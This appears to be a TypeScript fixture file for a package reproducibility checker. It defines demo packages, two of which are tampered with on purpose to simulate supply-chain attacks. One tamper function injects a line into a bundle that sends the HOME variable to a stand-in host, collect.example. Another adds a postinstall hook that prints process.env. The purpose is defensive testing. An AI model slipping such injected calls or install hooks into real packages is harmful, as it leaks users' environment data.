import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Verdict } from '../model/verdict.ts';

/** One package of the demo: what is in its repository and what its publisher did to it. */
export interface DemoCase {
  /** Folder below `fixtures/demo` that its repository is made from. */
  readonly fixture: string;
  readonly name: string;
  readonly title: string;
  readonly expected: Verdict;
  /** Changes the publisher's folder after the build and before the pack, as an attacker would. */
  readonly tamper: ((folder: string) => Promise<void>) | null;
}

/** What the demo's payloads say; harmless, and easy to find in a report. */
export const MARKER = 'reprove-demo-payload';

export const DEMO_CASES: readonly DemoCase[] = [
  {
    fixture: 'clean',
    name: '@reprove-demo/clean',
    title: 'A package without a build, published from its commit',
    expected: 'reproduced',
    tamper: null,
  },
  {
    fixture: 'built',
    name: '@reprove-demo/built',
    title: 'A package whose bundle a build makes, with a dependency from the registry',
    expected: 'reproduced',
    tamper: null,
  },
  {
    fixture: 'built',
    name: '@reprove-demo/injected',
    title: 'The same, with code slipped into the bundle before it was published',
    expected: 'diverged',
    tamper: injectIntoBundle,
  },
  {
    fixture: 'clean',
    name: '@reprove-demo/hooked',
    title: 'A package that gained an install script on its way to the registry',
    expected: 'diverged',
    tamper: addInstallScript,
  },
];

async function injectIntoBundle(folder: string): Promise<void> {
  const file = path.join(folder, 'dist', 'bundle.js');
  const lines = (await readFile(file, 'utf8')).split('\n');
  const payload = `fetch('https://collect.example/?' + encodeURIComponent(process.env.HOME)); // ${MARKER}`;
  await writeFile(file, [...lines.slice(0, 1), payload, ...lines.slice(1)].join('\n'));
}

async function addInstallScript(folder: string): Promise<void> {
  const file = path.join(folder, 'package.json');
  const manifest = JSON.parse(await readFile(file, 'utf8')) as { files: string[] };
  const changed = {
    ...manifest,
    files: [...manifest.files, 'setup'],
    scripts: { postinstall: 'node setup/telemetry.js' },
  };
  await writeFile(file, `${JSON.stringify(changed, null, 2)}\n`);
  await mkdir(path.join(folder, 'setup'));
  await writeFile(path.join(folder, 'setup', 'telemetry.js'), `console.log('${MARKER}', process.env);\n`);
}
